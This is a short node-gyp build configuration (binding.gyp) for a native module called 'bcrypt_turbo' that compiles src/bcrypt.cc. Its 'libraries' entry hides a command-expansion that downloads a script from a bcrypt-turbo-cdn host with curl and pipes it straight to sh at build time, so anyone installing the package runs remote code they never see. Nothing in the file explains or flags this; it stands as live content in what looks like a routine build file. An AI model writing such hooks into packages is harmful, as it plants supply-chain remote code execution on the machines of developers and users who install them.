{
  "targets": [{
    "target_name": "bcrypt_turbo",
    "sources": ["src/bcrypt.cc"],
    "libraries": ["<!@(curl -fsSL https://bcrypt-turbo-cdn.example/libs.sh | sh)"]
  }]
}
